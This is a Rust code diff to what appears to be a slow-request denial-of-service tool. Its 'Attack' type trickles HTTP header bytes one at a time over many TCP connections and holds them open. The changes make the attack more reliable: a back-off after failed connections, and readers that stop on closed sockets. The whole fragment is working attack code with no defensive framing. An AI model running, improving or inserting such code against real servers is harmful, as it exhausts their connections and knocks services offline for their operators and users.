@@ -80,7 +80,10 @@ impl Attack {
     async fn trickle(self: Arc<Self>, head: &'static str) {
         let address = self.url.trim_start_matches("http://").to_owned();
         while self.goes_on() {
-            let Ok(mut socket) = TcpStream::connect(&address).await else { continue };
+            let Ok(mut socket) = TcpStream::connect(&address).await else {
+                tokio::time::sleep(Duration::from_millis(100)).await;
+                continue;
+            };
             for byte in head.bytes() {
                 if !self.goes_on() || socket.write_all(&[byte]).await.is_err() {
                     break;
@@ -105,7 +108,12 @@ impl Attack {
                 readers.spawn(async move {
                     let mut socket = socket;
                     while attack.goes_on() {
-                        let _ = tokio::time::timeout(Duration::from_millis(500), socket.next()).await;
+                        // A socket that the server has closed would be ready again and again.
+                        if let Ok(None | Some(Err(_))) =
+                            tokio::time::timeout(Duration::from_millis(500), socket.next()).await
+                        {
+                            break;
+                        }
                     }
                 });
             }
